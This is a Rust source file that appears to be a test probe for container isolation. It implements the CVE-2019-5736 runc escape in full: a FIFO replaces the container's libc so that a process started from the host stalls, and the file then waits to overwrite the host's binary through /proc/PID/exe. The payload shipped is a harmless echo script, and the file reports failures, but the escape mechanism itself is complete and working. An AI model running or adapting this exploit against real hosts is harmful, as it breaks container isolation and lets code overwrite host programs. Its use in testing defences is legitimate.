//! The misbehaviour: inside a container, waits for a process that was started from the host, and writes over its program.
//!
//! That is CVE-2019-5736. `/proc/PID/exe` opens the very file that a process runs, wherever it is. While it runs it
//! cannot be written to (ETXTBSY); a moment later it can, by the descriptor that was taken then. Where it does not
//! work, says why, in one line. The program that is written does no harm: `#!/bin/sh`, and a word.
//!
//! The process is there for a moment only. But it loads its libraries from in here, and one of them is a FIFO now: it waits
//! in open(2) until somebody writes to that.

use std::fs::{File, OpenOptions, read_dir, read_link, read_to_string, rename};
use std::io::{Error, ErrorKind, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::sys::stat::Mode;
use nix::unistd::mkfifo;

const PATIENCE: Duration = Duration::from_secs(60);

fn main() -> Result<(), Error> {
    let library = own_library()?;
    let aside = library.with_extension("aside");
    rename(&library, &aside)?;
    mkfifo(&library, Mode::from_bits_truncate(0o666))?;
    println!("ready");
    let program = patiently(|| processes().iter().find_map(|process| File::open(process.join("exe")).ok()));
    // Lets it go on: what it reads is no library, and it ends. But a process that opens the library from now on finds it.
    let fifo = patiently(|| OpenOptions::new().write(true).custom_flags(libc::O_NONBLOCK).open(&library).ok());
    rename(&aside, &library)?;
    drop(fifo);
    println!(
        "{}",
        program.map_or("refused: no process of the host's could be opened".to_owned(), |it| write_over(&it))
    );
    Ok(())
}

/// Every program in here that is linked as this one needs it: proc_pid_maps(5).
fn own_library() -> Result<PathBuf, Error> {
    let maps = read_to_string("/proc/self/maps")?;
    let path = maps.lines().filter_map(|line| line.split_whitespace().nth(5)).find(|path| path.contains("/libc.so"));
    path.map(PathBuf::from).ok_or(ErrorKind::NotFound.into())
}

fn patiently<T>(mut look: impl FnMut() -> Option<T>) -> Option<T> {
    let since = Instant::now();
    while since.elapsed() < PATIENCE {
        if let Some(found) = look() {
            return Some(found);
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    None
}

/// Processes whose program is no file in here.
fn processes() -> Vec<PathBuf> {
    let entries = read_dir("/proc").into_iter().flatten().flatten().map(|entry| entry.path());
    // The engine's is a mount of its own, and its path ends there.
    let is_hosts = |process: &PathBuf| {
        read_link(process.join("exe")).is_ok_and(|program| program == Path::new("/") || !program.exists())
    };
    entries
        .filter(|path| path.file_name().is_some_and(|name| name.as_encoded_bytes()[0].is_ascii_digit()))
        .filter(is_hosts)
        .collect()
}

fn write_over(program: &File) -> String {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let write = || OpenOptions::new().write(true).open(&path)?.write_all(b"#!/bin/sh\necho overwritten\n");
    let written = patiently(|| match write() {
        Err(error) if error.kind() == ErrorKind::ExecutableFileBusy => None, // it still runs
        written => Some(written),
    });
    match written {
        Some(Ok(())) => "overwritten".to_owned(),
        Some(Err(error)) => format!("refused: {error}"),
        None => "refused: it runs on".to_owned(),
    }
}
